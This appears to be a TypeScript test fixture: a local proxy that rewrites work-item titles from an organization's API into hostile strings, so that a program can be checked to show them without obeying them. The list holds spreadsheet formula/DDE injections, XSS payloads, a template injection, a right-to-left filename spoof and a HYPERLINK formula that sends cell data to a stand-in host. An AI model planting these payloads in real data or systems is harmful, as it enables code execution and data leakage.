// A server between the program and the organization that gives every work item a title that attacks: a server
// that somebody else runs may say anything.
import http from 'node:http';
import type { AddressInfo } from 'node:net';

/** Titles that a program has to show and never to obey. The mark is that of the sample's hostile texts. */
export const titles = [
  '=cmd|\'/C calc\'!A0', '<img src=x onerror="window.sightlineHostile=1">', '<script>window.sightlineHostile=2</script>', '@SUM(1+1)*cmd|\'calc\'!A0',
  '<svg onload="window.sightlineHostile=3"></svg>', '+HYPERLINK("http://hostile.invalid/?"&A1,"Read more")', 'javascript:window.sightlineHostile=4',
  '"><iframe srcdoc="<script>parent.sightlineHostile=5</script>"></iframe>', '-2+3+cmd|\'calc\'!A0', '{{constructor.constructor("window.sightlineHostile=6")()}}',
  '<a href="javascript:window.sightlineHostile=7">Open</a>', '\t=1+1', 'invoice \u202egnp.exe', '<style>*{display:none!important}</style>', 'x'.repeat(10_000),
] as const;

export class Poison {
  private given = 0;

  private constructor(private readonly target: URL, private readonly server: http.Server) {}

  static async before(organizationUrl: string): Promise<Poison> {
    const server = http.createServer();
    const poison = new Poison(new URL(organizationUrl), server);
    server.on('request', (asked, answer) => poison.pass(asked, answer));
    await new Promise<void>((resolve) => { server.listen(0, '127.0.0.1', resolve); });
    return poison;
  }

  get url(): string { return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}${this.target.pathname}`; }

  async close(): Promise<void> {
    this.server.closeAllConnections();
    await new Promise((resolve) => { this.server.close(resolve); });
  }

  // The Host stays as it came, so that the organization's links lead back here.
  private pass(asked: http.IncomingMessage, answer: http.ServerResponse): void {
    const headers = { ...asked.headers, 'accept-encoding': 'identity' };
    const on = http.request({ host: this.target.hostname, port: this.target.port, path: asked.url, method: asked.method, headers }, (got) => {
      const parts: Buffer[] = [];
      got.on('data', (part: Buffer) => parts.push(part));
      got.on('end', () => {
        const body = Buffer.from(this.poisoned(Buffer.concat(parts).toString('utf8')));
        const { 'transfer-encoding': _, ...rest } = got.headers;
        answer.writeHead(got.statusCode ?? 502, { ...rest, 'content-length': body.length }).end(asked.method === 'HEAD' ? undefined : body);
      });
    });
    on.on('error', () => answer.destroy());
    answer.on('close', () => on.destroy());
    asked.pipe(on);
  }

  private poisoned(text: string): string {
    return text.replace(/"System\.Title":\s*"(?:[^"\\]|\\.)*"/g, () => `"System.Title":${JSON.stringify(titles[this.given++ % titles.length])}`);
  }
}
